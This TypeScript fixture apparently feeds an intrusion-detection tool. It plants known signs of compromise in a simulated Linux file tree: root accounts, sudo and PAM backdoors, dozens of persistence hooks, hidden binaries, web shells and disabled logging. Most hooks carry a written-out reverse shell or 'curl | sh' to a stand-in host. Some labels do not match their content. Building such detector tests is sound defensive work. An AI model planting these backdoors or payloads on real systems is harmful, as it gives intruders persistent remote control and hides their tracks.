/** Less trodden places: what an intruder who knows the usual list of places would take instead. */

import { attackerKey, elf, type Sign } from '../sign.ts';
import type { Tree } from '../tree.ts';

const reverse = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
const fetched = 'curl -fsSL http://203.0.113.9/k | sh';

/** A sign that is one file. */
function file(id: string, family: Sign['family'], what: string, path: string, content: string | Buffer, put: Parameters<Tree['write']>[2] & { readonly issue?: 5; readonly also?: readonly string[] } = {}): Sign {
	const { issue, also, ...how } = put;
	return { id, family, what, names: [path], plant: tree => tree.write(path, content, how), ...(issue === undefined ? {} : { issue }), ...(also === undefined ? {} : { also }) };
}
function line(id: string, family: Sign['family'], what: string, path: string, text: string): Sign {
	return { id, family, what, names: [path], plant: tree => tree.append(path, text) };
}
const run = { mode: 0o755 } as const;

export const secondSigns: readonly Sign[] = [
	{ id: 'uid-00', family: 'accounts', what: 'a UID of two noughts', plant: tree => {
		tree.append('/etc/passwd', 'daemon2:x:00:00::/:/bin/sh\n');
	}, names: ['account daemon2'] },
	{ id: 'in-docker-group', family: 'accounts', what: 'a daemon in the group sudo by gshadow and group', plant: tree => tree.edit('/etc/group', /^(adm:x:\d+:.*)$/m, '$1\nroot2:x:0:irc'), names: ['account irc', '/etc/group'], issue: 5 },
	file('sshd-ca', 'trust', 'a foreign authority for keys', '/etc/ssh/sshd_config.d/60-ca.conf', 'TrustedUserCAKeys /var/lib/misc/.ca.pub\n'),
	file('sshd-subsystem', 'trust', 'a subsystem that is a shell', '/etc/ssh/sshd_config.d/61-sub.conf', 'Subsystem backup /bin/bash -i\n'),
	file('sudo-preload', 'trust', 'sudo that keeps LD_PRELOAD', '/etc/sudoers.d/env', 'Defaults env_keep += "LD_PRELOAD"\n', { mode: 0o440 }),
	file('sudo-path', 'trust', 'sudo that looks in /tmp first', '/etc/sudoers.d/path', 'Defaults secure_path="/tmp:/usr/sbin:/usr/bin"\n', { mode: 0o440 }),
	file('sudo-vim', 'trust', 'everybody may edit as root', '/etc/sudoers.d/vim', '%users ALL=(root) NOPASSWD: /usr/bin/vim, /usr/bin/find\nnobody ALL=(root) NOPASSWD: /usr/bin/find\n', { mode: 0o440 }),
	file('sudo-plugin', 'trust', 'a plug-in of sudo', '/etc/sudo.conf', 'Plugin sudoers_policy /usr/lib/sudo/.s/sudoers.so\n'),
	{ id: 'pam-absolute', family: 'trust', what: 'a module from a temporary place', plant: tree => tree.append('/etc/pam.d/login', 'auth optional /var/tmp/.pam/pam_log.so\n'), names: ['/etc/pam.d/login'] },
	{ id: 'pam-succeed', family: 'trust', what: 'anybody is let in', plant: tree => tree.edit('/etc/pam.d/common-password', /^/, 'password optional pam_exec.so expose_authtok /tmp/.pw\n'), names: ['/etc/pam.d/common-password'] },

	file('systemd-conf', 'environment', 'a library in every service', '/etc/systemd/system.conf.d/10-env.conf', '[Manager]\nDefaultEnvironment=LD_PRELOAD=/var/lib/.s/s.so\n'),
	{ id: 'unit-link', family: 'start-up', what: 'a packaged unit led to a temporary place', plant: tree => {
		tree.write('/var/tmp/.u/chrony.service', '[Service]\nExecStart=/var/tmp/.u/c\n');
		tree.link('/var/tmp/.u/chrony.service', '/etc/systemd/system/chrony.service');
	}, names: ['/etc/systemd/system/chrony.service'], also: ['/var/tmp/.u'] },
	{ id: 'unit-shadow', family: 'start-up', what: 'a unit of /etc in front of the packaged one', plant: tree => tree.write('/etc/systemd/system/cron.service', '[Service]\nExecStartPre=/usr/lib/.c/pre\nExecStart=/usr/sbin/cron -f\n'), names: ['/etc/systemd/system/cron.service'] },
	{ id: 'rcs-file', family: 'start-up', what: 'a file, not a link, in rcS.d', plant: tree => tree.write('/etc/rcS.d/S99fsck2', '#!/bin/sh\n/usr/share/.fs/fs &\n', run), names: ['/etc/rcS.d/S99fsck2'] },
	file('cron-shell', 'start-up', 'a job whose shell is the program', '/etc/cron.d/tz', 'SHELL=/var/tmp/.sh\n5 * * * * root date\n'),
	{ id: 'crontab-path', family: 'start-up', what: 'jobs that look in /tmp first', plant: tree => tree.edit('/etc/crontab', /^PATH=.*$|^SHELL=.*$/m, 'SHELL=/bin/sh\nPATH=/tmp/.bin:/usr/sbin:/usr/bin:/sbin:/bin'), names: ['/etc/crontab'] },
	file('cron-daily-hidden', 'start-up', 'a hidden daily job', '/etc/cron.daily/.x', `#!/bin/sh\n${fetched}\n`, run),
	file('spool-odd', 'start-up', 'a crontab of nobody', '/var/spool/cron/crontabs/systemd', `* * * * * ${fetched}\n`, { mode: 0o600 }),
	file('at-www', 'start-up', 'a job of at of the web server', '/var/spool/cron/atjobs/a0000501c2a5f0', `#!/bin/sh\n# atrun uid=33 gid=33\n# mail www-data 0\numask 22\ncd /var/www || exit 1\n${reverse}\n`, { owner: 'www-data', group: 'daemon', mode: 0o700 }),
	file('incron', 'start-up', 'run when a file changes', '/etc/incron.d/x', '/etc/passwd IN_MODIFY /usr/lib/.i/restore\n'),
	file('completion', 'start-up', 'sourced by each bash', '/etc/bash_completion.d/git2', `(${reverse} &)\n`),
	file('completion-lazy', 'start-up', 'sourced when somebody completes ls', '/usr/share/bash-completion/completions/ls', `${fetched} &\n`),
	file('acpi', 'start-up', 'run when a key is pressed', '/etc/acpi/events/powerbtn2', 'event=button/power\naction=/usr/lib/.a/acpid %e\n'),
	file('xsessionrc', 'start-up', 'run with a graphical session', '/home/jürgen/.xsessionrc', `nohup sh -c '${fetched}' &\n`, { owner: 'jürgen' }),
	file('nm-pre-up', 'start-up', 'run before a network comes up', '/etc/NetworkManager/dispatcher.d/pre-up.d/10-x', '#!/bin/sh\n/dev/shm/.n/n &\n', { ...run }),
	file('networkd-dispatcher', 'start-up', 'run when a network is routable', '/etc/networkd-dispatcher/routable.d/50-x', `#!/bin/sh\n${fetched}\n`, run),
	file('wireguard', 'start-up', 'run when a tunnel comes up', '/etc/wireguard/wg1.conf', `[Interface]\nPrivateKey = x\nPostUp = bash -c '${reverse}' &\n`, { mode: 0o600 }),
	file('openvpn', 'start-up', 'run when a tunnel comes up', '/etc/openvpn/client.conf', 'script-security 2\nup /var/tmp/.vpn/up.sh\n'),
	file('dhclient-conf', 'start-up', 'the script of dhclient', '/etc/dhcp/dhclient.conf', 'script "/var/lib/dhcp/.s/dhclient-script";\n'),
	file('samba', 'start-up', 'run as root when a share is opened', '/etc/samba/smb.conf', '[print$]\n\tpath = /var/lib/samba\n\troot preexec = /bin/sh -c "curl -s 203.0.113.9/s|sh"\n'),
	file('postfix', 'start-up', 'run for each mail', '/etc/postfix/master.cf', `x unix - n n - - pipe\n  flags=R user=root argv=/var/spool/postfix/.x/run \${recipient}\n`),
	file('apache-pipe', 'start-up', 'a log that is a program', '/etc/apache2/conf-enabled/log2.conf', `CustomLog "|/bin/sh -c '${fetched}'" combined\n`),
	file('apache-module', 'start-up', 'a module of no package', '/etc/apache2/mods-enabled/rpaf2.load', 'LoadModule rpaf2_module /usr/share/apache2/.m/mod_rpaf.so\n'),
	file('postgres', 'start-up', 'run for each segment of a log', '/etc/postgresql/15/main/conf.d/a.conf', `archive_mode = on\narchive_command = 'sh -c "${fetched}"'\n`),
	file('supervisor', 'start-up', 'kept running by supervisor', '/etc/supervisor/conf.d/x.conf', '[program:x]\ncommand=/dev/shm/.x/miner -o pool\nautorestart=true\n'),
	file('monit', 'start-up', 'kept running by monit', '/etc/monit/conf.d/x', 'check process x with pidfile /run/x.pid\n  start program = "/bin/bash -c \'/dev/shm/.x/m\'"\n'),
	file('system-sleep', 'start-up', 'run when the machine wakes', '/usr/lib/systemd/system-sleep/x', '#!/bin/sh\n/usr/lib/.z/z &\n', run),
	file('tmpfiles', 'start-up', 'a set-uid shell made at each boot', '/etc/tmpfiles.d/x.conf', 'C /var/tmp/.s 4755 root root - /bin/sh\nz /var/tmp/.s 4755 root root\n'),
	file('tmpfiles-cron', 'start-up', 'a job made at each boot', '/usr/lib/tmpfiles.d/zz.conf', `f+ /etc/cron.d/zz 0644 root root - * * * * * root ${fetched}\n`),
	file('sysusers', 'accounts', 'an account with UID 0 made at boot', '/etc/sysusers.d/x.conf', 'u sysupd2 0 "x" / /bin/sh\n'),
	{ ...line('fstab', 'start-up', 'a temporary place mounted over programs', '/etc/fstab', '/dev/shm/.b /usr/sbin none bind 0 0\n'), issue: 5 },
	file('crypttab', 'start-up', 'a script for a key', '/etc/crypttab', 'x /dev/sdb1 none luks,keyscript=/var/tmp/.k\n'),
	line('ld-so-conf', 'environment', 'libraries from a temporary place', '/etc/ld.so.conf', '/dev/shm/lib\n'),
	line('shells', 'accounts', 'a shell that is a program of the intruder', '/etc/shells', '/var/tmp/.sh\n'),

	file('fish', 'environment', 'run by each fish', '/home/grace/.config/fish/config.fish', `${fetched} &\n`, { owner: 'grace' }),
	file('pam-environment', 'environment', 'a library through pam_env of one user', '/home/ada/.pam_environment', 'LD_PRELOAD DEFAULT=/home/ada/.cache/.p.so\n', { owner: 'ada' }),
	file('user-environment', 'environment', 'a library in a session', '/home/grace/.config/environment.d/x.conf', 'LD_PRELOAD=/home/grace/.cache/.q.so\n', { owner: 'grace' }),
	file('user-bus', 'start-up', 'a bus name of one user', '/home/grace/.local/share/dbus-1/services/org.x.service', '[D-BUS Service]\nName=org.x\nExec=/home/grace/.cache/.d/d\n', { owner: 'grace' }),
	file('screenrc', 'environment', 'run by each screen', '/home/ada/.screenrc', `screen -t x sh -c "${fetched}"\n`, { owner: 'ada' }),
	file('psqlrc', 'environment', 'run by each psql', '/root/.psqlrc', `\\! ${fetched}\n`),
	file('vim-plugin', 'environment', 'run by each vim', '/root/.vim/plugin/x.vim', `call system("${fetched}")\n`),
	file('nvim', 'environment', 'run by each nvim', '/home/ada/.config/nvim/init.lua', `os.execute("${fetched}")\n`, { owner: 'ada' }),
	file('emacs', 'environment', 'run by each emacs', '/root/.emacs', `(shell-command "${fetched} &")\n`),
	file('gdbinit', 'environment', 'run by each gdb', '/root/.gdbinit', `shell ${fetched}\n`),
	file('user-ssh-config', 'environment', 'run by each ssh of one user', '/home/grace/.ssh/config', `Host *\n\tProxyCommand sh -c '${fetched}; nc %h %p'\n`, { owner: 'grace', mode: 0o600 }),
	file('python-startup', 'environment', 'run by each python', '/home/grace/.bash_aliases', 'export PYTHONSTARTUP=/dev/shm/.p.py\n', { owner: 'grace' }),
	file('npmrc', 'environment', 'run by each npm script', '/root/.npmrc', 'script-shell=/var/tmp/.npm-sh\n'),

	file('under-proc', 'files', 'a kit below the mount point of procfs', '/proc/.k/d', elf('k'), { ...run, also: ['/proc/.k'] }),
	file('in-sys', 'files', 'a kit below the mount point of sysfs', '/sys/.x', elf('x'), run),
	file('lost-found', 'files', 'a program in lost+found', '/lost+found/#1234', elf('x'), run),
	file('hidden-home', 'files', 'a hidden home beside the others', '/home/.svc/run', elf('x'), { ...run, also: ['/home/.svc'] }),
	file('hidden-boot', 'files', 'a hidden program in /boot', '/boot/.efi', elf('x'), run),
	file('hidden-opt', 'files', 'a hidden folder in /opt', '/opt/.cache/agent', elf('x'), { ...run, also: ['/opt/.cache'] }),
	file('hidden-mnt', 'files', 'a hidden program in /mnt', '/mnt/.m/x', elf('x'), { ...run, also: ['/mnt/.m'] }),
	file('saved-ls', 'files', 'the true ls, kept under a hidden name', '/usr/bin/.ls', elf('ls'), run),
	{ id: 'hard-link', family: 'files', what: 'another name of a set-uid program, which outlives its update', plant: tree => tree.hardLink('/usr/bin/passwd', '/home/ada/.cache/old'), names: ['/home/ada/.cache/old'] },
	file('t0rn-list', 'files', 'a list of what ps hides (t0rn)', '/usr/lib/lidps1.so', '3 sniffer\n'),
	file('lrk-list', 'files', 'a list of what is hidden (lrk)', '/usr/include/hosts.h', '2 203.0.113.\n'),
	{ id: 'tmp-device', family: 'files', what: 'the disk as a device file in /tmp', plant: tree => tree.node('/tmp/sda', 'b', 8, 0), names: ['/tmp/sda'] },
	file('jar-tmp', 'files', 'a shell script hidden as a socket in /tmp', '/tmp/.X11-unix/.X0-lock', `#!/bin/sh\n${reverse}\n`, { mode: 0o755 }),
	file('php-ext', 'files', 'an extension of PHP of no package', '/usr/lib/php/20220829/redis2.so', elf('php', 'library')),
	file('mysql-udf', 'files', 'a library for a database', '/usr/lib/mysql/plugin/raptor_udf2.so', elf('udf', 'library')),
	file('key-etc', 'trust', 'keys kept in /etc', '/etc/ssh/.keys', `${attackerKey}\n`),

	file('phtml', 'web', 'a shell by another extension', '/var/www/blog/wp-content/uploads/a.phtml', '<?=`$_GET[0]`?>', { owner: 'www-data' }),
	file('php-jpg', 'web', 'two extensions', '/var/www/blog/wp-content/uploads/pic.php.jpg', '<?php eval($_REQUEST["a"]); ?>', { owner: 'www-data' }),
	file('preg-e', 'web', 'an old way to evaluate', '/var/www/blog/wp-content/plugins/seo/c.php', '<?php preg_replace("/.*/e", $_POST["x"], ""); ?>', { owner: 'www-data' }),
	file('no-letters', 'web', 'a shell without letters', '/var/www/html/n.php', "<?php $_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');$___=$$__;$_($___[_]);", { owner: 'www-data' }),
	file('flask', 'web', 'a route that runs what it is asked', '/srv/www/app/status.py', 'import os\nfrom flask import request\n@app.route("/s")\ndef s(): return os.popen(request.args.get("c")).read()\n', { owner: 'deploy' }),
	file('erb', 'web', 'a page in Ruby', '/srv/www/website/x.rb', 'require "sinatra"\nget("/x") { `#{params[:c]}` }\n', { owner: 'deploy', issue: 5 }),
	file('fsockopen', 'web', 'PHP that opens a shell outwards', '/srv/www/website/conn.php', '<?php $s=fsockopen("203.0.113.9",4444);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$x);', { owner: 'deploy' }),
	file('cgi-sh', 'web', 'a shell by CGI', '/usr/lib/cgi-bin/test.sh', '#!/bin/bash\necho; eval "$QUERY_STRING"\n', run),

	{ id: 'journal-null', family: 'evidence', what: 'the journal\'s folder thrown away', plant: tree => tree.link('/dev/null', '/var/log/journal'), names: ['/var/log/journal'] },
	{ id: 'btmp-dir', family: 'evidence', what: 'a folder in place of btmp', plant: tree => { tree.remove('/var/log/btmp'); tree.dir('/var/log/btmp'); }, names: ['/var/log/btmp'] },
	{ id: 'syslog-null', family: 'evidence', what: 'syslog led to a temporary place', plant: tree => tree.link('/dev/shm/.l', '/var/log/syslog'), names: ['/var/log/syslog'] },
	file('audit-off', 'evidence', 'auditing told to see nothing', '/etc/audit/rules.d/00.rules', '-D\n-a never,task\n-e 0\n', { issue: 5 }),
	{ id: 'combining', family: 'names', what: 'a name under a flood of marks', plant: tree => tree.write(`/usr/share/a${'\u0301'.repeat(40)}`, 'x'), names: [`/usr/share/a${'\u0301'.repeat(40)}`] },
	{ id: 'carriage', family: 'names', what: 'a name that overwrites its row', plant: tree => tree.write('/usr/lib/evil\rsafe', 'x'), names: ['/usr/lib/evil\rsafe'] },
	{ id: 'back-slash', family: 'names', what: 'a cron file with a blank at its end', plant: tree => tree.write('/etc/cron.d/php ', 'x'), names: ['/etc/cron.d/php '] },
	{ id: 'tag-characters', family: 'names', what: 'letters nobody sees', plant: tree => tree.write('/opt/metrics\u{E0041}', 'x'), names: ['/opt/metrics\u{E0041}'] },
];
